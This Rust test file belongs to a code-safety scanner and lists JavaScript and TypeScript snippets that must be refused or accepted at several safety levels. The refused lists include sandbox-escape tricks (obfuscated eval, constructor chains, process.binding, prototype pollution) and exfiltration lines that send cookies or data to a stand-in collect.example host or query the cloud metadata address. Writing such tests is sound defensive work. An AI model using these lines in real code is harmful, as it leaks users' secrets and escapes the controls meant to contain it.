//! What JavaScript and TypeScript code is refused and accepted.

use mgp_types::mgp::{CodeSafety, SafetyLevel};

use crate::code_safety::{CodePolicy, scan};

fn all_refused(level: SafetyLevel, codes: &[&str]) {
    for language in ["javascript", "typescript"] {
        let policy = CodePolicy::new(&CodeSafety::new(level).with_language(language));
        for code in codes {
            assert!(scan(code, &policy).is_err(), "accepted as {language}: {code}");
        }
    }
}

fn all_accepted(level: SafetyLevel, codes: &[&str]) {
    for language in ["javascript", "typescript"] {
        let policy = CodePolicy::new(&CodeSafety::new(level).with_language(language));
        for code in codes {
            assert_eq!(scan(code, &policy).map_err(|rejection| rejection.to_string()).err(), None, "{code}");
        }
    }
}

// covers: MGP-7.2-02
#[test]
fn imports_are_found_in_every_spelling() {
    all_refused(
        SafetyLevel::Standard,
        &[
            "require('child_process')",
            "require('node:child_process')",
            "require(`fs`)",
            "require('f' + 's')",
            "require(name)",
            "import('vm')",
            "import fs from 'node:fs/promises'",
            "export * from 'net'",
            "const { exec } = await import('child_process')",
            "require('./native.node')",
            "import 'data:text/javascript,1'",
        ],
    );
}

// covers: MGP-7.2-02
#[test]
fn running_a_text_is_found_in_every_spelling() {
    all_refused(
        SafetyLevel::Standard,
        &[
            "eval ('1')",
            "(0, eval)('1')",
            "const e = eval; e('1')",
            "\\u0065val('1')",
            "window.eval('1')",
            "window['ev' + 'al']('1')",
            "new Function('return 1')()",
            "[].filter.constructor('return 1')()",
            "[]['filter']['constr' + 'uctor']('return 1')()",
            "(async () => {}).constructor('x')",
            "const { constructor: F } = function () {}; F('x')()",
            "x.constructor.constructor('x')",
            "setTimeout('x', 1)",
            "setInterval(`x${y}`, 1)",
            "process.mainModule.require('x')",
            "process.binding('fs')",
            "globalThis.process.binding('fs')",
            "module.constructor._load('fs')",
            "x <!--a[eval('1')]",
        ],
    );
}

#[test]
fn ways_behind_objects_are_refused() {
    all_refused(
        SafetyLevel::Strict,
        &[
            "x.__proto__.y = 1",
            "const o = { __proto__: null }",
            "JSON.parse('{\"__proto__\": 1}')",
            "const g = ({}).__lookupGetter__",
            "Object.getPrototypeOf(Object.getPrototypeOf(x))",
            "Object.getOwnPropertySymbols(x)",
            "Array.prototype.map = f",
            "Object.defineProperty(Array.prototype, 0, {})",
            "Promise.prototype.then = f",
            "const i = Buffer.prototype.inspect",
            "const a = Buffer.apply",
            "x[Symbol.species] = y",
            "r.constructor = x",
            "const c = p.constructor",
            "const k = [o, 'constructor']",
            "Error.prepareStackTrace = f",
            "const e = new Error(); e.name = Symbol(); e.stack",
            "new Proxy({}, {})",
            "Reflect.ownKeys(x)",
            "globalThis[name]",
            "window[name](1)",
            "process.env",
            "JSON.stringify(process.env)",
            "const p = process",
            "new Worker('x.js')",
            "with (x) { y }",
            "while (1) {}",
            "for (;;);",
            "'x'.repeat(1e10)",
            "fetch('http://169.254.169.254/')",
            "fetch('https://collect.example/?' + document.cookie)",
            "new WebSocket('wss://collect.example')",
            "const x = new XMLHttpRequest()",
            "navigator.sendBeacon('https://collect.example', text)",
            "document.createElement('script').src = address",
        ],
    );
}

#[test]
fn ordinary_code_is_accepted() {
    all_accepted(
        SafetyLevel::Strict,
        &[
            "class A extends B { constructor(x) { super(x); } }",
            "if (x.constructor === Object) { y(); }",
            "console.log(err.constructor.name)",
            "Object.prototype.hasOwnProperty.call(x, 'y')",
            "Array.prototype.slice.call(arguments)",
            "const proto = Object.create(null)",
            "process.env.PORT || 3000",
            "const { A, B } = process.env",
            "process.exit(1)",
            "setTimeout(() => f(), 10)",
            "typeof window !== 'undefined' && window.location.href",
            "module.exports = { f }",
            "const path = require('path')",
            "import { z } from 'zod'",
            "import { a } from './own.js'",
            "const K = Symbol('k')",
            "class C { [Symbol.iterator]() { return this; } }",
            "const self = this; self.x = 1",
            "for (;;) { if (f()) break; }",
            "// eval('1')\nconst s = 'eval(1)'",
            "function f(process) { return process.whatever; }",
            "fetch('https://example.com/api', { method: 'POST' })",
            "localStorage.setItem('a', 'b')",
        ],
    );
}

#[test]
fn a_name_hides_the_global_one_only_where_it_is_declared() {
    all_refused(
        SafetyLevel::Strict,
        &["{ let process = 1 }\nprocess.kill(1)", "function f(require) {}\nrequire('fs')"],
    );
    all_refused(SafetyLevel::Standard, &["var eval\neval('1')", "{ var eval }\neval('1')"]);
}

// covers: MGP-7.2-04
#[test]
fn readonly_refuses_every_way_to_write() {
    let writes = [
        "localStorage.setItem('a', 'b')",
        "fetch(u, { method: 'POST' })",
        "fetch(u, { method })\nfetch(u, { method: m })",
        "axios.post(u, x)",
        "store.writeFileSync(p, x)",
        "collection.insertOne(x)",
        "db.query('DELETE FROM t')",
    ];
    all_refused(SafetyLevel::Readonly, &writes);
    all_accepted(SafetyLevel::Strict, &writes);
    all_accepted(
        SafetyLevel::Readonly,
        &[
            "fetch(u)", "fetch(u, { method: 'GET' })", "localStorage.getItem('a')", "cache.delete(k)",
            "db.query('SELECT 1')",
        ],
    );
}

// covers: MGP-7.2-03
#[test]
fn idioms_of_libraries_are_accepted() {
    all_accepted(
        SafetyLevel::Strict,
        &[
            "class E extends Error { constructor(m) { super(m); Error.captureStackTrace(this, this.constructor) } }",
            "if (Error.captureStackTrace) { n = 1 }",
            "function plain(value) { const proto = Object.getPrototypeOf(value); return proto === null }",
            "function copy(to, from, key) { to[key] = Object.getOwnPropertyDescriptor(from, key) }",
            "Object.setPrototypeOf(this, new.target.prototype)",
            "editor.dispose(); user.species === 'ferret'",
            "vi.spyOn(globalThis, 'fetch')",
            "process.env.NODE_ENV = 'test'",
            "function walk(n) { if (n) walk(n - 1) }",
            "if (!('navigator' in globalThis)) { n = 1 }",
            "import x from '@/lib/x'; import y from '~/y.js'; import z from './z'",
            "const f = async (ms: number): Promise<void> => { await wait(ms as number) }",
        ],
    );
    all_refused(
        SafetyLevel::Strict,
        &[
            "Error.captureStackTrace(error)",
            "const proto = Object.getPrototypeOf(async () => {})",
            "try { f() } catch (e) { p = Object.getPrototypeOf(e) }",
            "Object.getOwnPropertyDescriptor(f, 'constructor')",
            "Object.setPrototypeOf(this, Function.prototype)",
            "f(globalThis, 'eval')",
            "x[Symbol.species] = x",
            "[][(![] + [])[+[]]]",
            "new DisposableStack()",
            "(function () { return this })().process.exit()",
            "process.env.NODE_OPTIONS = '--require x'",
            "function stack() { new Error().stack; stack(); }",
        ],
    );
}
